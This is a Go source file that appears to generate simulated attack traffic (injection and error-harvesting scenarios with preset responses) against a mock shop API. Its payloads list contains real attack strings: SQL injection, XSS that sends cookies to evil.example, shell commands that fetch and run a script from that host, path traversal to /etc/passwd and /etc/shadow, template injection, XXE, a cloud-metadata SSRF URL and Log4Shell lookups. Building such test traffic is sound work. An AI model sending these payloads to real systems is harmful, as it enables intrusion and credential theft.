package traffic

import (
	"net/url"
	"strconv"
	"strings"
	"time"

	"github.com/otelcol-apierror/otelcol-apierror/cmd/apitraffic/internal/shop"
)

var injection = []variant{
	{
		name: "rejected", about: "payloads of all kinds every 3 s, answered 400",
		attackers: 4, lasts: 3 * time.Minute, play: inject(3*time.Second, 400),
	},
	{
		name: "broken", about: "payloads every 4 s, some break the service",
		attackers: 4, lasts: 4 * time.Minute, play: inject(4*time.Second, 500),
	},
	{
		name: "accepted", about: "payloads every 4 s, answered as if nothing were wrong",
		attackers: 4, lasts: 4 * time.Minute, play: inject(4*time.Second, 200),
	},
	{name: "slow", about: "a payload every 5 minutes, shopping in between", attackers: 3, lasts: 80 * time.Minute, play: injectSlowly},
	{name: "twice encoded", about: "payloads encoded twice, in paths", attackers: 3, lasts: 3 * time.Minute, play: injectEncoded},
}

// payloads are what tools and people send: SQL, scripts, commands, paths, templates, filters of a directory, entities, requests
// to be made by the server, lookups.
var payloads = []string{
	"' OR '1'='1' -- ", "1 UNION SELECT username,password FROM users--", "1'; WAITFOR DELAY '0:0:5'--", "1 AND SLEEP(5)",
	"x' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))-- -", "'; DROP TABLE orders;--", "1) OR 1=1#", "admin'/**/or/**/1=1--",
	"<script>alert(document.cookie)</script>", `"><img src=x onerror=alert(1)>`, "<svg/onload=fetch('//evil.example/'+document.cookie)>",
	"javascript:alert(1)//", `'"><iframe src=javascript:alert(1)>`, "<body onpageshow=confirm(1)>",
	"; cat /etc/passwd", "| id", "`wget http://evil.example/x.sh -O- | sh`",
	"$(curl evil.example)", "127.0.0.1 && whoami", "|| ping -c 10 evil.example",
	"../../../../etc/passwd", `..\..\..\windows\win.ini`, "....//....//etc/shadow", "/proc/self/environ",
	"php://filter/convert.base64-encode/resource=index.php",
	"{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
	"<%= system('id') %>", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
	"*)(uid=*))(|(uid=*", "admin)(&(password=*))",
	`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
	"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://localhost:6379/",
	"gopher://127.0.0.1:6379/_INFO", "file:///etc/hosts",
	"${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/x}", "${${::-j}${::-n}di:dns://evil.example/z}",
}

// carrying puts a payload where the shop takes a text.
func (p *player) carrying(payload string) call {
	switch p.rng.IntN(4) {
	case 0:
		return call{route: "GET /api/v1/products/{id}", path: "/api/v1/products/" + url.PathEscape(payload), id: "1"}
	case 1:
		return call{route: "GET /api/v1/products", query: shop.Query("category", "4", "sort", payload)}
	case 2:
		return call{route: "GET /api/v1/orders", query: shop.Query("status", payload)}
	default:
		return call{route: "GET /api/v1/search", query: shop.Query("q", payload)}
	}
}

func inject(every time.Duration, answer int64) func(p *player) {
	return func(p *player) {
		p.at(p.addresses.of(p.rng, pick(p.rng, hosting, home)))
		p.me.Agent = disguised(p.rng)
		order := p.rng.Perm(len(payloads))
		for i := 0; !p.over(); i++ {
			payload := payloads[order[i%len(order)]]
			c := p.carrying(payload)
			c.status = answer
			switch {
			case answer == 500 && p.chance(0.5):
				c.status = 400
			case answer == 500:
				c.failure = breakage(payload)
			}
			p.do(c)
			p.pause(every)
		}
	}
}

// breakage is what a payload makes a service report that runs it as part of a statement.
func breakage(payload string) *shop.Exception {
	if strings.Contains(payload, "'") {
		return brokenQuery(payload)
	}
	return brokenParse(payload)
}

func injectSlowly(p *player) {
	p.insider()
	for !p.over() {
		c := p.carrying(pick(p.rng, payloads...))
		c.status = pick[int64](p.rng, 400, 400, 200)
		p.do(c)
		p.cover = true
		p.browse(p.between(1, 4), 12*time.Second)
		p.cover = false
		p.pause(5 * time.Minute)
	}
}

func injectEncoded(p *player) {
	p.at(p.addresses.of(p.rng, hosting))
	p.me.Agent = disguised(p.rng)
	for !p.over() {
		payload := url.QueryEscape(url.QueryEscape(pick(p.rng, payloads[:25]...)))
		p.do(call{route: "GET /api/v1/attachments/{id}", path: "/api/v1/attachments/" + payload, status: pick[int64](p.rng, 400, 404)})
		p.pause(4 * time.Second)
	}
}

var leakHarvest = []variant{
	{
		name: "fast", about: "broken parameters, 2 a second, each answered with the statement that broke",
		attackers: 4, lasts: 4 * time.Minute, play: harvest(500 * time.Millisecond),
	},
	{name: "moderate", about: "the same, one every 10 s", attackers: 4, lasts: 20 * time.Minute, play: harvest(10 * time.Second)},
	{name: "slow", about: "the same, one every 2 minutes", attackers: 3, lasts: 80 * time.Minute, play: harvest(2 * time.Minute)},
}

// harvest asks for what no form would send, none of it a payload, and reads what the errors give away.
func harvest(every time.Duration) func(p *player) {
	return func(p *player) {
		p.at(p.addresses.of(p.rng, pick(p.rng, hosting, home)))
		p.me.Agent = disguised(p.rng)
		for !p.over() {
			text := pick(p.rng, "[]", "null", "-1", "NaN", "undefined", "true", "1e999", "%00", "'", `\`, "a"+strconv.Itoa(p.rng.IntN(1e6)))
			c := call{route: "GET /api/v1/products/{id}", path: "/api/v1/products/" + url.PathEscape(text), failure: brokenParse(text)}
			if p.chance(0.5) {
				c = call{route: "GET /api/v1/orders", query: shop.Query("status", text), failure: brokenQuery(text)}
			}
			c.status = 500
			if p.chance(0.3) {
				c.status, c.failure = 400, nil
			}
			p.do(c)
			p.pause(every)
		}
	}
}
